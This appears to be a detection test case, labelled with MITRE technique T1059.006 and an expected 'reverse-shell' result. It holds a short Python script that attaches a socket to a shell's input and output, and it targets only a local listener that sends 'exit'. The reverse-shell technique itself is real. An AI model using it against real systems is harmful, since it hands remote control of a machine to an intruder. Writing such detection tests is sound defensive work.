# title: python copies a socket over its input and output and runs a shell
# technique: T1059.006
# expects: reverse-shell
# needs: python3
python3 - <<'P'
import os, socket, subprocess, threading
server = socket.socket(); server.bind(("127.0.0.1", 4445)); server.listen(1)
def answer():
    peer, _ = server.accept(); peer.sendall(b"exit\n"); peer.close()
threading.Thread(target=answer).start()
client = socket.create_connection(("127.0.0.1", 4445))
if os.fork() == 0:
    for place in (0, 1, 2):
        os.dup2(client.fileno(), place)
    os.execv("/bin/sh", ["sh"])
os.wait()
P
